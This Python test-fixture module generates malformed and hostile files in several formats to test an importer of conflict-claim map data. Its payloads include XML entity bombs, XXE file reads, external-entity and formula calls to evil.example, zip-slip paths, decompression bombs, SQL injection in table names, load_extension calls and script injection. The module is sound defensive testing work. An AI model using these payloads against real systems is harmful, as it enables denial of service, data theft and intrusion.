# ruff: noqa: E501 - a file is best made on one line

"""Files by somebody who means ill, or whose program did: made here, never stored.

`FILES` has the maker of each by what it tries to be. Makers run when a test asks,
so that a hundred megabytes exist only while they are looked at.
"""

import bz2
import gzip
import io
import json
import lzma
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Final, TypeAlias

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import shapely
from hostile import TEXTS

Made: TypeAlias = tuple[str, bytes]
"""Name and content of a file."""

HEADER: Final = "place,status,reported_date,source,url,statement,lat,lon,note,claim_id"

ROW: Final = {
    "place": "Gornal",
    "status": "russian_control",
    "reported_date": "2025-04-26",
    "source": "ru-mod",
    "url": "https://example.org/1",
    "statement": "The ministry reported Gornal as taken.",
    "lat": "",
    "lon": "",
    "note": "",
    "claim_id": "",
}
"""A row that would be kept, if it were not for what a file puts into it."""


def quote(cell: str) -> str:
    """Write one cell of CSV."""
    return '"' + cell.replace('"', '""') + '"'


def make_csv(*rows: dict[str, str], header: str = HEADER) -> bytes:
    """Make a table of rows that differ from `ROW` as given."""
    names = header.split(",")
    lines = [",".join(quote((ROW | row).get(n, "")) for n in names) for row in rows]
    return "\n".join([header, *lines, ""]).encode()


def make_zip(
    entries: Iterable[tuple[str | zipfile.ZipInfo, bytes]],
    *,
    flags: int = 0,
    patch: Callable[[zipfile.ZipInfo], None] | None = None,
) -> bytes:
    """Make an archive; flags and sizes of its directory can be made to lie."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
        for info in archive.infolist():
            info.flag_bits |= flags
            if patch:
                patch(info)
    return stream.getvalue()


WORKBOOK: Final = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
    'formats.org/package/2006/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension='
    '"xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
    'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="applica'
    'tion/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.'
    'org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>",
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spread'
    'sheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006'
    '/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    "</workbook>",
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxml'
    'formats.org/package/2006/relationships"><Relationship Id="r1" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
    '"worksheets/sheet1.xml"/></Relationships>',
}


def make_sheet(data: str, *, before: str = "", dimension: str = "A1:F2") -> str:
    """Make the XML of a sheet."""
    return (
        f'{before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        f'2006/main"><dimension ref="{dimension}"/><sheetData>{data}</sheetData>'
        "</worksheet>"
    )


def make_cells(number: int | str, *texts: str) -> str:
    """Make the XML of a row of texts."""
    cells = "".join(f'<c t="inlineStr"><is><t>{t}</t></is></c>' for t in texts)
    return f'<row r="{number}">{cells}</row>'


ROWS: Final = make_cells(1, *HEADER.split(",")) + make_cells(2, *ROW.values())


def make_workbook(sheet: str, **parts: str) -> bytes:
    """Make a workbook whose parts may be replaced, by name with slashes as __."""
    other = {name.replace("__", "/"): text for name, text in parts.items()}
    every = WORKBOOK | {"xl/worksheets/sheet1.xml": sheet} | other
    return make_zip((name, text.encode()) for name, text in every.items())


def make_feature(geometry: object, **more: object) -> dict[str, object]:
    """Make a feature of a row that would be kept."""
    properties = {k: v for k, v in ROW.items() if k not in {"lat", "lon"}}
    return {"type": "Feature", "properties": properties | more, "geometry": geometry}


def make_geojson(*features: object, **more: object) -> bytes:
    """Make a collection of features."""
    whole = {"type": "FeatureCollection", "features": features, **more}
    return json.dumps(whole).encode()


POINT: Final = {"type": "Point", "coordinates": [35.235, 51.068]}


def make_kml(*placemarks: str, before: str = "") -> bytes:
    """Make a KML file."""
    return (
        f'<?xml version="1.0"?>{before}<kml xmlns="http://www.opengis.net/kml/2.2">'
        f"<Document>{''.join(placemarks)}</Document></kml>"
    ).encode()


def make_placemark(coordinates: str, name: str = "Gornal", extra: str = "") -> str:
    """Make a placemark of a row that would be kept."""
    data = "".join(
        f'<Data name="{k}"><value>{v}</value></Data>'
        for k, v in ROW.items()
        if k not in {"place", "lat", "lon"}
    )
    return (
        f"<Placemark><name>{name}</name>{extra}<ExtendedData>{data}</ExtendedData>"
        f"<Point><coordinates>{coordinates}</coordinates></Point></Placemark>"
    )


def make_geopackage(*statements: str, blobs: Iterable[bytes] = ()) -> bytes:
    """Make a GeoPackage of one table of claims, changed by further statements."""
    connection = sqlite3.connect(":memory:")
    connection.executescript(
        "CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT);"
        "CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT,"
        " srs_id INT);"
        "CREATE TABLE gpkg_spatial_ref_sys (srs_id INT, organization TEXT,"
        " organization_coordsys_id INT);"
        "CREATE TABLE claims (geom BLOB, place TEXT, status TEXT, reported_date TEXT,"
        " source TEXT, url TEXT);"
        "INSERT INTO gpkg_contents VALUES ('claims', 'features');"
        "INSERT INTO gpkg_geometry_columns VALUES ('claims', 'geom', 4326);"
    )
    for blob in blobs:
        row = (blob, "Gornal", "russian_control", "2025-04-26", "ru-mod", ROW["url"])
        connection.execute("INSERT INTO claims VALUES (?, ?, ?, ?, ?, ?)", row)
    for statement in statements:
        connection.execute(statement)
    connection.commit()
    content = connection.serialize()
    connection.close()
    return content


def make_blob(wkb: bytes, flags: int = 1, magic: bytes = b"GP") -> bytes:
    """Make a GeoPackage geometry."""
    return magic + bytes([0, flags]) + struct.pack("<i", 4326) + wkb


GOOD_BLOB: Final = make_blob(shapely.to_wkb(shapely.Point(35.235, 51.068)))


def make_parquet(table: pa.Table, **options: object) -> bytes:
    """Make a Parquet file."""
    stream = io.BytesIO()
    pq.write_table(table, stream, **options)
    return stream.getvalue()


def make_good_parquet(**more: object) -> bytes:
    """Make a Parquet file of one row that would be kept."""
    columns = {k: [v] for k, v in ROW.items() if k not in {"lat", "lon"}}
    return make_parquet(pa.table(columns | {k: [v] for k, v in more.items()}))


def flip(content: bytes, *places: int) -> bytes:
    """Damage some bytes of a file."""
    damaged = bytearray(content)
    for place in places:
        damaged[place] ^= 0xFF
    return bytes(damaged)


LAUGHS: Final = (
    '<!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {c} "{f"&{b};" * 10}">'
        for b, c in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
"""The billion laughs: nested entities that unfold to 10 GB."""

KEPT_APART: Final = "claimline-kept-apart.txt"


def make_secret() -> str:
    """Write a file that nothing may read; give its address."""
    path = Path(tempfile.gettempdir()) / KEPT_APART
    path.write_text("the secret of the server", encoding="utf-8")
    return path.as_uri()


def make_deep(opening: str, closing: str, depth: int, inside: str = "") -> str:
    """Nest something in itself."""
    return opening * depth + inside + closing * depth


FILES: dict[str, Callable[[], Made]] = {}
"""Maker of each file, by what it tries."""


def add(label: str, name: str, make: Callable[[], bytes]) -> None:
    """Register a file."""
    assert label not in FILES
    FILES[label] = lambda: (name, make())


def add_rows(label: str, *rows: dict[str, str]) -> None:
    """Register a CSV of rows."""
    add(f"csv-{label}", "claims.csv", lambda: make_csv(*rows))


# Files that are no tables at all, and files whose name lies.
for _label, _content in {
    "empty": b"",
    "blank": b" \r\n\t\n",
    "nul": b"\0" * 4096,
    "mark": b"\xef\xbb\xbf",
    "wide-mark": b"\xff\xfe",
    "header": HEADER.encode(),
    "png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "jpeg": b"\xff\xd8\xff\xe0" + bytes(64),
    "pdf": b"%PDF-1.7\n1 0 obj",
    "elf": b"\x7fELF" + bytes(64),
    "exe": b"MZ\x90\x00" + bytes(64),
    "gzip": gzip.compress(b"a,b\n1,2\n"),
    "gzip-bomb": gzip.compress(b"a," * 5_000_000),
    "bzip2": bz2.compress(b"a,b\n1,2\n"),
    "xz": lzma.compress(b"a,b\n1,2\n"),
    "zstd": b"\x28\xb5\x2f\xfd" + bytes(16),
    "rar": b"Rar!\x1a\x07\x01\x00",
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(16),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b"<svg onload=alert(1)></svg>",
    "binary": bytes((i * 7919 + i // 251) % 32 for i in range(20_000)),
    "random": bytes((i * i * 31 + i * 17 + 129) % 256 for i in range(20_000)),
}.items():
    add(f"no-table-{_label}", "claims.csv", lambda content=_content: content)

# Sizes.
add("csv-endless-line", "claims.csv", lambda: b"a" * 100_000_000)
add("csv-endless-cell", "claims.csv", lambda: make_csv({"note": "n" * 900_000}))
add("csv-long-cell", "claims.csv", lambda: make_csv({"note": "n" * 50_000}))
add(
    "csv-million-columns",
    "claims.csv",
    lambda: b",".join(b"c%d" % i for i in range(10**6)) + b"\n1\n",
)
add(
    "csv-thousand-columns",
    "claims.csv",
    lambda: b",".join(b"c%d" % i for i in range(1000)) + b"\n1\n",
)
add("csv-wide-row", "claims.csv", lambda: make_csv({}) + b"x," * 400_000)
add("csv-many-rows", "claims.csv", lambda: b"a,b\n" + b"1,2\n" * 300_000)
add(
    "csv-many-cells",
    "claims.csv",
    lambda: b"a" + b",b" * 299 + b"\n" + b"," * 299 + b"x\n",
)
add(
    "csv-too-many-cells",
    "t.csv",
    lambda: b"x,a" * 150 + b"\n" + (b"1," * 299 + b"1\n") * 15_000,
)
add("csv-only-separators", "claims.csv", lambda: (b"," * 200 + b"\n") * 2_000)

# Quotation marks, encodings, line ends.
add("csv-open-quote", "claims.csv", lambda: make_csv({}) + b'"Gornal,x\n' * 3)
add("csv-open-header", "claims.csv", lambda: b'"place,status\nGornal,RU\n')
add("csv-lone-quotes", "claims.csv", lambda: b'a,b\n"' + b'\n"' * 100_000)
add("csv-odd-quotes", "claims.csv", lambda: b"a,b\n" + b'"""\n' * 100_000)
add("csv-quotes-inside", "claims.csv", lambda: make_csv({}) + b'a"b,"c"d,e\n')
add("csv-utf-16-cut", "claims.csv", lambda: make_csv({}).decode().encode("utf-16")[:-1])
add("csv-utf-16-bare", "claims.csv", lambda: make_csv({}).decode().encode("utf-16-le"))
add("csv-utf-32", "claims.csv", lambda: make_csv({}).decode().encode("utf-32"))
add("csv-bad-utf-8", "claims.csv", lambda: make_csv({}) + b"\xff\xfe\x80,\xc0\x80\n")
add(
    "csv-koi8",
    "claims.csv",
    lambda: make_csv({"place": "Горналь"}).decode().encode("koi8_u"),
)
add("csv-nul-inside", "claims.csv", lambda: make_csv({"note": "a\0b"}))
add("csv-cr", "claims.csv", lambda: make_csv({}, {}).replace(b"\n", b"\r"))
add("csv-mixed-ends", "claims.csv", lambda: make_csv({}, {}).replace(b"\n", b"\r\n\n"))
add("csv-sep-line", "claims.csv", lambda: b"sep=\x01\n" + make_csv({}))
add(
    "csv-twin-headers",
    "claims.csv",
    lambda: make_csv({}, header=HEADER + ",place,place"),
)
add("csv-no-headers", "claims.csv", lambda: make_csv({}, header=",,,,,"))
add(
    "csv-hostile-header",
    "claims.csv",
    lambda: make_csv({}, header=HEADER + ",<b>\u202e=1"),
)

# What cells may hold.
for _label, _text in TEXTS.items():
    add_rows(
        f"text-{_label}",
        {"statement": _text, "note": _text},
        {"place": _text, "lat": "51.07", "lon": "35.24"},
        {"source": _text, "url": _text},
    )
for _start in "=+-@\t\r":
    _formula = f'{_start}HYPERLINK("http://evil.example";1)'
    add_rows(f"formula-{ord(_start)}", {"statement": _formula, "note": _formula})
for _label, _lat, _lon in (
    ("nan", "nan", "nan"),
    ("inf", "inf", "-inf"),
    ("huge", "1e400", "1e-400"),
    ("beyond", "91", "181"),
    ("antimeridian", "51", "180"),
    ("beyond-antimeridian", "51", "-180.0001"),
    ("swapped", "35.235", "51.068"),
    ("half", "51.068", ""),
    ("commas", "51,068", "35,235"),
    ("two-commas", "51,068,1", "35"),
    ("words", "fifty-one", "east"),
    ("arabic", "٥١", "٣٥"),
    ("many-digits", "5" * 5000, "1"),
    ("nowhere", "0", "0"),
):
    add_rows(f"point-{_label}", {"place": "Nowhere", "lat": _lat, "lon": _lon}, {})
for _label, _day in (
    ("year-0", "0000-01-01"),
    ("year-9999", "9999-12-31"),
    ("year-99999", "99999-01-01"),
    ("february-30", "2025-02-30"),
    ("serial", "999999999"),
    ("negative", "-2025-01-01"),
    ("words", "the day after tomorrow"),
    ("regex", "1" * 60 + "/" + "1" * 60),
    ("two-ways", "03/04/2025"),
):
    add_rows(f"day-{_label}", {"reported_date": _day}, {})
for _label, _url in (
    ("script", "javascript:alert(1)"),
    ("data", "data:text/html,<script>alert(1)</script>"),
    ("file", "file:///etc/passwd"),
    ("quote", 'https://a.b/"onmouseover="alert(1)'),
    ("bracket", "https://[::1"),
    ("none", ""),
    ("long", "https://example.org/" + "a" * 5000),
):
    add_rows(f"url-{_label}", {"url": _url}, {})
add_rows("path-id", {"claim_id": "../../etc/passwd"}, {"claim_id": "a/b"})
add_rows("twin-id", {"claim_id": "a"}, {"claim_id": "a"}, {"claim_id": "A"})
add_rows("reserved-source", {"source": "russian"}, {"source": "none"})
add_rows("long-status", {"status": "russian " * 2_000})
add_rows("empty-cells", dict.fromkeys(ROW, ""))
add_rows("space-cells", dict.fromkeys(ROW, "\u00a0\u2003"))
add(
    "csv-many-names",
    "claims.csv",
    lambda: make_csv(*({"place": f"Name {i}x"} for i in range(6_000))),
)
add(
    "csv-many-places",
    "claims.csv",
    lambda: make_csv(
        *(
            {"place": f"P{i}", "lat": f"{51.2 + i / 1e5:.5f}", "lon": "35.5"}
            for i in range(5_200)
        )
    ),
)
LINKED: Final = HEADER + ",denies,derived_from"
add(
    "csv-long-chain",
    "claims.csv",
    lambda: make_csv(
        *({"claim_id": f"c{i}", "derived_from": f"c{i - 1}"} for i in range(1, 20_000)),
        header=LINKED,
    ),
)
add(
    "csv-long-circle",
    "claims.csv",
    lambda: make_csv(
        *(
            {"claim_id": f"c{i}", "derived_from": f"c{(i + 1) % 5_000}"}
            for i in range(5_000)
        ),
        header=LINKED,
    ),
)
add(
    "csv-self-denial",
    "claims.csv",
    lambda: make_csv({"claim_id": "c", "denies": "c"}, header=LINKED),
)

# Workbooks.
_DOCTYPE = '<?xml version="1.0"?>'
add("xlsx-laughs", "t.xlsx", lambda: make_workbook(make_sheet(ROWS, before=LAUGHS)))
add(
    "xlsx-file-entity",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet(
            make_cells(1, "place") + make_cells(2, "&x;"),
            before=f'<!DOCTYPE w [<!ENTITY x SYSTEM "{make_secret()}">]>',
        )
    ),
)
add(
    "xlsx-late-entity",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet(ROWS, before=f"{_DOCTYPE}<!--{' ' * 9000}-->{LAUGHS}")
    ),
)
add(
    "xlsx-workbook-entity",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet(ROWS),
        **{"xl__workbook.xml": LAUGHS + WORKBOOK["xl/workbook.xml"]},
    ),
)
add(
    "xlsx-bomb",
    "t.xlsx",
    lambda: make_workbook(make_sheet(ROWS + " " * 200_000_000)),
)
add(
    "xlsx-row-lie",
    "t.xlsx",
    lambda: make_workbook(make_sheet(make_cells(1, "a") + make_cells(10**12, "b"))),
)
add("xlsx-row-word", "t.xlsx", lambda: make_workbook(make_sheet(make_cells("x", "a"))))
add(
    "xlsx-dimension-lie",
    "t.xlsx",
    lambda: make_workbook(make_sheet(ROWS, dimension="A1:XFD1048576")),
)
add(
    "xlsx-last-column",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet('<row r="1"><c r="XFD1" t="inlineStr"><is><t>a</t></is></c></row>')
    ),
)
add(
    "xlsx-bad-cell",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet(make_cells(1, "a") + '<row r="2"><c r="!!" t="s"><v>9</v></c></row>')
    ),
)
add(
    "xlsx-endless-day",
    "t.xlsx",
    lambda: make_workbook(
        make_sheet(make_cells(1, "day") + '<row r="2"><c t="d"><v>9e300</v></c></row>')
    ),
)
add("xlsx-cut", "t.xlsx", lambda: make_workbook(make_sheet(ROWS))[:700])
add(
    "xlsx-no-sheet",
    "t.xlsx",
    lambda: make_zip([("[Content_Types].xml", b""), ("xl/workbook.xml", b"")]),
)
add("xlsx-broken-xml", "t.xlsx", lambda: make_workbook("<worksheet><sheetData><row>"))
add("xlsx-deep-xml", "t.xlsx", lambda: make_workbook(make_deep("<a>", "</a>", 100_000)))
add(
    "xlsx-outside",
    "t.xlsx",
    lambda: make_zip(
        [*((n, t.encode()) for n, t in WORKBOOK.items()), ("../../evil.xml", b"<a/>")]
    ),
)
add(
    "xlsx-password",
    "t.xlsx",
    lambda: make_zip([(n, t.encode()) for n, t in WORKBOOK.items()], flags=1),
)
add("xlsx-named-csv", "claims.csv", lambda: make_workbook(make_sheet(ROWS)))


def make_formula_book() -> bytes:
    """Make a workbook of formulas that nobody has computed."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in (list(ROW), ['=WEBSERVICE("http://evil.example")'] * len(ROW)):
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


add("xlsx-formulas", "t.xlsx", make_formula_book)

# GeoJSON.
for _label, _geometry in {
    "type": {"type": "Sphere", "coordinates": [1, 2]},
    "no-coordinates": {"type": "Point"},
    "words": {"type": "Point", "coordinates": ["a", "b"]},
    "none": {"type": "Point", "coordinates": None},
    "empty": {"type": "Polygon", "coordinates": []},
    "two-corners": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]},
    "bow": {
        "type": "Polygon",
        "coordinates": [[[35, 51], [36, 52], [36, 51], [35, 52], [35, 51]]],
    },
    "pole": {"type": "Point", "coordinates": [35, 91]},
    "antimeridian": {
        "type": "Polygon",
        "coordinates": [[[179, 51], [-179, 51], [-179, 52], [179, 51]]],
    },
    "boolean": {"type": "Point", "coordinates": [True, False]},
    "one-number": {"type": "Point", "coordinates": [35]},
    "list": [1, 2, 3],
    "text": "POINT (35 51)",
    "nested-list": {"type": "Point", "coordinates": [[[[35, 51]]]]},
}.items():
    add(
        f"geojson-{_label}",
        "t.geojson",
        lambda geometry=_geometry: make_geojson(
            make_feature(geometry), make_feature(POINT)
        ),
    )
add("geojson-deep", "t.geojson", lambda: make_deep("[", "]", 200_000).encode())
add(
    "geojson-deep-property",
    "t.geojson",
    lambda: (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","geometry":null,'
        b'"properties":{"a":' + make_deep("[", "]", 900).encode() + b"}}]}"
    ),
)
add(
    "geojson-deep-collection",
    "t.geojson",
    lambda: (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
        b'"geometry":'
        + make_deep('{"type":"GeometryCollection","geometries":[', "]}", 400).encode()
        + b"}]}"
    ),
)
add(
    "geojson-vertices",
    "t.geojson",
    lambda: make_geojson(
        make_feature({"type": "LineString", "coordinates": [[35, 51]] * 300_000})
    ),
)
for _label, _json in {
    "nan": b'{"features":[{"properties":{},"geometry":{"type":"Point","coordinates":[NaN,1]}}]}',
    "infinity": b'{"features":[{"properties":{"a":-Infinity}}]}',
    "overflow": b'{"features":[{"properties":{},"geometry":{"type":"Point","coordinates":[1e999,51]}}]}',
    "digits": b'{"features":[{"properties":{"a":' + b"9" * 10_000 + b"}}]}",
    "cut": b'{"type":"FeatureCollection","features":[{"type":"Fea',
    "scalars": b"[1,2,3]",
    "words": b'{"features":["a","b"]}',
    "nulls": b'{"features":[null,null]}',
    "no-list": b'{"features":{"0":1}}',
    "no-properties": b'{"features":[{"properties":[1,2]}]}',
    "twin-keys": b'{"features":[{"properties":{"a":1,"a":2},"properties":{"b":3}}]}',
    "prototype": b'{"features":[{"properties":{"__proto__":{"x":1},"__class__":"y"}}]}',
    "unpaired": b'{"features":[{"properties":{"place":"\\ud800","note":"\\u0000"}}]}',
    "lines": b'{"type":"Feature","properties":{"a":1}}\n{"broken\n{"type":"Feature","properties":{"a":2}}\n',
}.items():
    add(f"geojson-{_label}-json", "t.geojson", lambda content=_json: content)
add(
    "geojson-many-lists",
    "t.geojson",
    lambda: b'{"features":[' + b"[]," * 9_000_000 + b"[]]}",
)
add(
    "geojson-many-names",
    "t.geojson",
    lambda: make_geojson(make_feature(POINT, **{f"p{i}": i for i in range(20_000)})),
)
for _label, _crs in {
    "unknown": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EVIL::1"}},
    "text": "EPSG:4326",
    "link": {"type": "link", "properties": {"href": "http://evil.example/crs"}},
    "mercator": {"type": "name", "properties": {"name": "EPSG:3857"}},
}.items():
    add(
        f"geojson-crs-{_label}",
        "t.geojson",
        lambda crs=_crs: make_geojson(make_feature(POINT), crs=crs),
    )

# KML and KMZ.
_GOOD_MARK = make_placemark("35.235,51.068,0")
add("kml-laughs", "t.kml", lambda: make_kml("&j;", before=LAUGHS))
add(
    "kml-quadratic",
    "t.kml",
    lambda: make_kml(
        f"<Placemark><name>{'&a;' * 50_000}</name></Placemark>",
        before=f'<!DOCTYPE k [<!ENTITY a "{"a" * 50_000}">]>',
    ),
)
add(
    "kml-file-entity",
    "t.kml",
    lambda: make_kml(
        make_placemark("35.2,51.1", name="&x;"),
        before=f'<!DOCTYPE k [<!ENTITY x SYSTEM "{make_secret()}">]>',
    ),
)
add(
    "kml-web-entity",
    "t.kml",
    lambda: make_kml(
        _GOOD_MARK, before='<!DOCTYPE k SYSTEM "http://evil.example/k.dtd">'
    ),
)
add(
    "kml-parameter-entity",
    "t.kml",
    lambda: make_kml(
        _GOOD_MARK,
        before='<!DOCTYPE k [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>',
    ),
)
add(
    "kml-include",
    "t.kml",
    lambda: make_kml(
        _GOOD_MARK,
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{make_secret()}" parse="text"/>',
    ),
)
add(
    "kml-network-link",
    "t.kml",
    lambda: make_kml(
        _GOOD_MARK,
        "<NetworkLink><Link><href>http://evil.example</href></Link></NetworkLink>",
    ),
)
add("kml-deep", "t.kml", lambda: make_kml(make_deep("<Folder>", "</Folder>", 100_000)))
add("kml-cut", "t.kml", lambda: make_kml(_GOOD_MARK)[:-30])
add("kml-empty", "t.kml", make_kml)
add("kml-other-xml", "t.kml", lambda: b"<?xml version='1.0'?><rss><item/></rss>")
add("kml-encoding", "t.kml", lambda: b"<?xml version='1.0' encoding='evil-8'?><kml/>")
add(
    "kml-utf-7",
    "t.kml",
    lambda: b"<?xml version='1.0' encoding='utf-7'?><kml>+ADw-/kml>",
)
add("kml-utf-16-lie", "t.kml", lambda: b"<?xml version='1.0' encoding='utf-16'?><kml/>")
for _label, _coordinates in {
    "nan": "nan,nan",
    "inf": "inf,51",
    "words": "east,north",
    "one": "35",
    "none": "",
    "pole": "35,95",
    "many": "35,51 " * 250_000,
}.items():
    add(
        f"kml-point-{_label}",
        "t.kml",
        lambda text=_coordinates: make_kml(make_placemark(text), _GOOD_MARK),
    )
add(
    "kml-script",
    "t.kml",
    lambda: make_kml(
        make_placemark(
            "35.235,51.068",
            extra="<description><![CDATA[<script>alert(1)</script>]]></description>",
        )
    ),
)
add("kmz-bomb", "t.kmz", lambda: make_zip([("doc.kml", b" " * 200_000_000)]))
add(
    "kmz-two", "t.kmz", lambda: make_zip([("a.kml", make_kml()), ("b.kml", make_kml())])
)
add(
    "kmz-outside", "t.kmz", lambda: make_zip([("../../evil.kml", make_kml(_GOOD_MARK))])
)
add(
    "kmz-laughs",
    "t.kmz",
    lambda: make_zip([("doc.kml", make_kml("&j;", before=LAUGHS))]),
)
add(
    "kmz-password",
    "t.kmz",
    lambda: make_zip([("doc.kml", make_kml(_GOOD_MARK))], flags=1),
)
add(
    "kmz-damaged",
    "t.kmz",
    lambda: flip(make_zip([("doc.kml", make_kml(_GOOD_MARK))]), 60, 61),
)


def _claim_small(info: zipfile.ZipInfo) -> None:
    info.file_size = 10


add(
    "kmz-size-lie",
    "t.kmz",
    lambda: make_zip([("doc.kml", b" " * 50_000_000)], patch=_claim_small),
)

# GeoPackages.
add("gpkg-header", "t.gpkg", lambda: b"SQLite format 3\0")
add("gpkg-junk", "t.gpkg", lambda: b"SQLite format 3\0" + bytes(range(256)) * 40)
add("gpkg-cut", "t.gpkg", lambda: make_geopackage(blobs=[GOOD_BLOB])[:5000])
add(
    "gpkg-flipped",
    "t.gpkg",
    lambda: flip(make_geopackage(blobs=[GOOD_BLOB]), 100, 4200, 8300),
)
add("gpkg-no-contents", "t.gpkg", lambda: make_geopackage("DROP TABLE gpkg_contents"))
add("gpkg-no-table", "t.gpkg", lambda: make_geopackage("DROP TABLE claims"))
add(
    "gpkg-endless-view",
    "t.gpkg",
    lambda: make_geopackage(
        "DROP TABLE claims",
        "CREATE VIEW claims AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1"
        " FROM n) SELECT i, 'a' AS place FROM n",
    ),
)
add(
    "gpkg-endless-contents",
    "t.gpkg",
    lambda: make_geopackage(
        "DROP TABLE gpkg_contents",
        "CREATE VIEW gpkg_contents AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT"
        " i + 1 FROM n) SELECT i AS table_name, 'x' AS data_type FROM n",
    ),
)
add(
    "gpkg-function",
    "t.gpkg",
    lambda: make_geopackage(
        "CREATE VIEW evil AS SELECT load_extension('evil.so') AS place",
        "UPDATE gpkg_contents SET table_name = 'evil'",
    ),
)
add(
    "gpkg-generated",
    "t.gpkg",
    lambda: make_geopackage(
        "ALTER TABLE claims ADD COLUMN big TEXT AS (hex(zeroblob(400000000)))",
        blobs=[GOOD_BLOB],
    ),
)
add(
    "gpkg-quoted-name",
    "t.gpkg",
    lambda: make_geopackage(
        'ALTER TABLE claims RENAME TO "a"";DROP TABLE x;--"',
        "UPDATE gpkg_contents SET table_name = 'a\";DROP TABLE x;--'",
        "UPDATE gpkg_geometry_columns SET table_name = 'a\";DROP TABLE x;--'",
        blobs=[GOOD_BLOB],
    ),
)
add(
    "gpkg-unknown-system",
    "t.gpkg",
    lambda: make_geopackage(
        "UPDATE gpkg_geometry_columns SET srs_id = 999999", blobs=[GOOD_BLOB]
    ),
)
add(
    "gpkg-wide",
    "t.gpkg",
    lambda: make_geopackage(
        *(f"ALTER TABLE claims ADD COLUMN c{i}" for i in range(600)), blobs=[GOOD_BLOB]
    ),
)
for _label, _blob in {
    "magic": make_blob(b"", magic=b"XX"),
    "short": b"GP",
    "envelope": make_blob(b"\x01", flags=0b1111),
    "no-wkb": make_blob(b""),
    "endless-wkb": make_blob(b"\x01\x02\x00\x00\x00\xff\xff\xff\xff"),
    "nan": make_blob(struct.pack("<BIdd", 1, 1, float("nan"), 51.0)),
    "inf": make_blob(struct.pack("<BIdd", 1, 1, float("inf"), 51.0)),
    "deep-wkb": make_blob(b"\x01\x07\x00\x00\x00\x01\x00\x00\x00" * 10_000),
}.items():
    add(
        f"gpkg-blob-{_label}",
        "t.gpkg",
        lambda blob=_blob: make_geopackage(blobs=[blob, GOOD_BLOB]),
    )

# Parquet.
add("parquet-magic", "t.parquet", lambda: b"PAR1PAR1")
add("parquet-cut", "t.parquet", lambda: make_good_parquet()[:-40])
add(
    "parquet-flipped-end",
    "t.parquet",
    lambda: flip(make_good_parquet(), -20, -60, -100),
)
add(
    "parquet-flipped-data",
    "t.parquet",
    lambda: flip(make_good_parquet(), 10, 30, 50, 70),
)
add(
    "parquet-endless-footer",
    "t.parquet",
    lambda: make_good_parquet()[:-8] + b"\xff\xff\xff\x7fPAR1",
)
add(
    "parquet-rows",
    "t.parquet",
    lambda: make_parquet(
        pa.table({"a": pa.array([1]).take(pa.array([0] * 1_000_000))})
    ),
)
add(
    "parquet-bomb",
    "t.parquet",
    lambda: make_parquet(
        pa.table({"a": ["x" * 1_500_000] * 100}),
        use_dictionary=False,
        compression="zstd",
    ),
)
add(
    "parquet-dictionary-bomb",
    "t.parquet",
    lambda: make_parquet(
        pa.table(
            {
                "a": pa.DictionaryArray.from_arrays(
                    pa.array([0] * 20_000, pa.int32()), pa.array(["x" * 500_000])
                )
            }
        ),
        compression="zstd",
    ),
)
add(
    "parquet-wide",
    "t.parquet",
    lambda: make_parquet(pa.table({f"c{i}": [1] for i in range(700)})),
)
add(
    "parquet-no-rows",
    "t.parquet",
    lambda: make_parquet(pa.table({"a": pa.array([], pa.string())})),
)
add(
    "parquet-geo-lie",
    "t.parquet",
    lambda: make_parquet(
        pa.table(
            {"geometry": [b"not wkb"], "place": ["Gornal"]}
        ).replace_schema_metadata(
            {
                "geo": json.dumps(
                    {"primary_column": "geometry", "columns": {"geometry": {}}}
                )
            }
        )
    ),
)
add(
    "parquet-geo-text",
    "t.parquet",
    lambda: make_parquet(pa.table({"a": ["b"]}).replace_schema_metadata({"geo": "{"})),
)
add("parquet-nested", "t.parquet", lambda: make_good_parquet(deep=[[[["<script>"]]]]))

# Archives of other files.
add("zip-none", "t.zip", lambda: make_zip([]))
